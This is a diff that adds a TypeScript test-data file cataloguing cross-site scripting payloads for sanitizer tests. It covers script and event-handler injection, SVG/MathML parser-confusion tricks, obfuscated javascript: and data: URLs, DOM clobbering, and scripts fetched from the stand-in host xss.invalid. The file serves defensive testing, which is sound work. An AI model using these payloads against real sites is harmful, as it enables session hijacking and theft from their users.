@@ -1,0 +1,133 @@
+/**
+ * Ways in which text from outside has been known to run as code, fetch from elsewhere or change the page around it.
+ * Whatever runs sets `__xss`; what is fetched comes from the host xss.invalid. Data of tests.
+ */
+
+const RUN = 'globalThis.__xss=1';
+const FOREIGN = 'https://xss.invalid';
+
+/** HTML, by the trick it plays. */
+export const XSS_HTML: Readonly<Record<string, string>> = {
+  // scripts
+  script: `<script>${RUN}</script>`,
+  'script of another host': `<script src="${FOREIGN}/x.js"></script>`,
+  'script in capitals, with a broken end': `<ScRiPt >${RUN}</ScRiPt\t\n bar>`,
+  'script inside a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  'script after a NUL': `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
+  'module script': `<script type="module">${RUN}</script>`,
+  'script in a comment that ends early': `<!--><script>${RUN}</script>-->`,
+  'script in a comment with a bang': `<!--a--!><script>${RUN}</script><!-->`,
+  'script in a CDATA section': `<![CDATA[><script>${RUN}</script>]]>`,
+  'script behind quotes that end elsewhere': `<a title='"><script>${RUN}</script>' href='javascript:${RUN}'>x</a>`,
+  'script behind a textarea': `<textarea><script>${RUN}</script></textarea><script>${RUN}</script>`,
+  'script behind a title': `<title></title><script>${RUN}</script>`,
+  'script in a processing instruction': `<?xml version="1.0"?><script>${RUN}</script>`,
+  'half-open script': `<script>${RUN}//`,
+  // event handlers
+  'image that fails': `<img src=x onerror="${RUN}">`,
+  'image that fails, slashes for spaces': `<img/src/onerror=${RUN}>`,
+  'image that fails, form feed for a space': `<img\u000csrc=x\u000conerror=${RUN}>`,
+  'image that fails, never closed': `<img src=x onerror=${RUN}//`,
+  'image with entities in its handler': '<img src=x onerror="&#103;lobalThis.__xss&equals;1">',
+  'image with two quotes': `<img """><img src=x onerror="${RUN}">">`,
+  'image with a grave accent': `<img src=\`x\` onerror=\`${RUN}\`>`,
+  'focus by itself': `<a href="#" autofocus onfocus="${RUN}" tabindex=1>x</a>`,
+  'details that opens': `<details open ontoggle="${RUN}">x</details>`,
+  'animation that ends': `<p style="animation:x 1ms" onanimationend="${RUN}" onanimationstart="${RUN}">x</p>`,
+  'video that fails': `<video><source onerror="${RUN}"></video>`,
+  'audio that fails': `<audio src=x onerror="${RUN}"></audio>`,
+  'body that loads': `<body onload="${RUN}" onpageshow="${RUN}">`,
+  'marquee that starts': `<marquee onstart="${RUN}">x</marquee>`,
+  'handler of an unknown element': `<x-y onpointerenter="${RUN}" onfocus="${RUN}" tabindex=0 autofocus>x</x-y>`,
+  'popover that toggles': `<div popover onbeforetoggle="${RUN}">x</div>`,
+  'hidden until found': `<p hidden="until-found" onbeforematch="${RUN}">x</p>`,
+  // SVG and MathML
+  'svg that loads': `<svg onload="${RUN}"><circle r=1 /></svg>`,
+  'script in svg': `<svg><script>${RUN}</script></svg>`,
+  'script in svg by link': `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
+  'link in svg': `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
+  'animated link in svg': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=9>x</text></a></svg>`,
+  'animation that begins': `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  'set in svg': `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
+  'use of another document': `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+PC9zdmc+#x" /></svg>`,
+  'foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
+  'style that ends inside svg': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  'style that ends inside math': `<math></p><style><!--</style><img src/onerror=${RUN}>-->`,
+  'mglyph that moves out': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  'form that is nested while parsing': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  'annotation with HTML': `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
+  'link in math': `<math href="javascript:${RUN}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
+  'title in svg': `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
+  // text that becomes markup the second time it is read
+  'noscript that ends in an attribute': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  'template with a script': `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
+  'declared shadow root': `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
+  'xmp that ends in an attribute': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  'noembed that ends in an attribute': `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
+  'iframe that ends in an attribute': `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
+  'plaintext that swallows': `<plaintext><img src=x onerror=${RUN}>`,
+  'select that drops elements': `<select><template><style><!--</select><img src=x onerror=${RUN}>--></style></template></select>`,
+  'table that pushes out': `<table><td><svg><desc><table><td><style></desc></svg><img src=x onerror=${RUN}></style></td></table>`,
+  'entities that are decoded once more': `&lt;img src=x onerror=${RUN}&gt;`,
+  // addresses
+  'javascript address': `<a href="javascript:${RUN}">x</a>`,
+  'javascript address in mixed case': `<a href="JaVaScRiPt:${RUN}">x</a>`,
+  'javascript address behind a control character': `<a href=" &#14; javascript:${RUN}">x</a>`,
+  'javascript address with a line break': `<a href="java\nscript:${RUN}">x</a>`,
+  'javascript address in entities': `<a href="&#x6A;avascript&colon;${RUN}">x</a>`,
+  'javascript address behind a zero width space': `<a href="\u200bjavascript:${RUN}">x</a>`,
+  'vbscript address': '<a href="vbscript:msgbox(1)">x</a>',
+  'data address': `<a href="data:text/html,<script>opener.__xss=1</script>">x</a>`,
+  'data address of an image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
+  'javascript address of an image': `<img src="javascript:${RUN}">`,
+  'source set': `<img src=x srcset="${FOREIGN}/a.png 1x, x 2x" sizes="javascript:1" onerror="${RUN}">`,
+  'address to be fetched first': `<link rel="preload" as="script" href="${FOREIGN}/x.js"><link rel="stylesheet" href="${FOREIGN}/x.css">`,
+  'ping of a link': `<a href="https://example.org/" ping="${FOREIGN}/p">x</a>`,
+  'background address': `<table background="${FOREIGN}/b.png"><td background="javascript:${RUN}">x</td></table>`,
+  'long description': `<img src=x longdesc="javascript:${RUN}" lowsrc="javascript:${RUN}" dynsrc="javascript:${RUN}">`,
+  // embedding and navigation
+  'frame of another host': `<iframe src="${FOREIGN}"></iframe>`,
+  'frame with its own document': '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
+  'frame with a script address': '<iframe src="javascript:parent.__xss=1"></iframe>',
+  object: `<object data="javascript:${RUN}"></object><object data="${FOREIGN}/x.swf"><param name=x></object>`,
+  embed: `<embed src="javascript:${RUN}">`,
+  'form elsewhere': `<form action="${FOREIGN}"><input name=q autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">x</button></form>`,
+  'base of all addresses': `<base href="${FOREIGN}/"><a href="x">x</a>`,
+  'refresh by meta': `<meta http-equiv="refresh" content="0;url=${FOREIGN}">`,
+  'policy by meta': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
+  'portal and fenced frame': `<portal src="${FOREIGN}"></portal><fencedframe src="${FOREIGN}"></fencedframe>`,
+  // styles
+  'imported style': `<style>@import "${FOREIGN}/x.css";</style>`,
+  'style with an expression': `<p style="width:expression(${RUN});behavior:url(${FOREIGN}/x.htc)">x</p>`,
+  'background of another host': `<p style="background:url(${FOREIGN}/b.png)">x</p>`,
+  'cover of the whole page':
+    '<a href="https://example.org" style="position:fixed;inset:0;z-index:99999">x</a>',
+  // names that shadow what scripts look up
+  'clobbered document':
+    '<a id="defaultView" name="cookie" href="https://example.org">x</a><form name="body"><img name="attributes"></form>',
+  'clobbered root': '<div id="root"><p id="__RED_BOOT__">x</p></div>',
+  'customised element': `<p is="x-y" slot="x" part="y" onclick="${RUN}">x</p>`,
+};
+
+/** Addresses that must become neither link, nor image, nor frame. */
+export const XSS_ADDRESSES: Readonly<Record<string, string>> = {
+  javascript: `javascript:${RUN}`,
+  'javascript in mixed case': `jAvAsCrIpT:${RUN}`,
+  'javascript with a tab': `java\tscript:${RUN}`,
+  'javascript with a line break': `java\r\nscript:${RUN}`,
+  'javascript behind a control character': `\u0001javascript:${RUN}`,
+  'javascript behind spaces': `   javascript:${RUN}`,
+  'javascript that looks like http': `javascript://example.org/%0a${RUN}`,
+  'javascript that names a video': `javascript:${RUN}//youtube.com/watch?v=Lf4mDi7aRs0`,
+  'data with HTML': `data:text/html,<script>opener.__xss=1</script>`,
+  'data with HTML in base64': 'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX194c3M9MTwvc2NyaXB0Pg==',
+  'data with a drawing': `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  vbscript: 'vbscript:msgbox(1)',
+  blob: 'blob:https://example.org/0',
+  file: 'file:///etc/passwd',
+  'another host without a scheme': '//xss.invalid/x',
+  'another host behind a backslash': '/\\xss.invalid/x',
+  'another host behind a tab': '/\t/xss.invalid/x',
+  'end of an attribute': `"><img src=x onerror=${RUN}>`,
+  'end of an attribute in single quotes': `' onmouseover=${RUN} x='`,
+};
